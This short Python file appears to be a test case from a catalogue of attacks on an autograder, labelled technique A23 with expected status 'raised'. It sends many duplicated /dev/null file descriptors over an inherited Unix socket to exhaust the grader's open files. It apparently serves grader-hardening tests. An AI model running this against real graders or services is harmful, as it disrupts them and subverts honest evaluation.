"""Passes open files along with its message, to use up the grader's.

==========  ========
technique   A23
assignment  linear
status      raised
most        0
==========  ========
"""

import array
import os
import socket

channel = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM, 0, fileno=os.dup(3))
null = os.open("/dev/null", os.O_RDONLY)
rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [null] * 10))]
for _ in range(10):
    channel.sendmsg([(1).to_bytes(4, "little") + b"{"], rights)
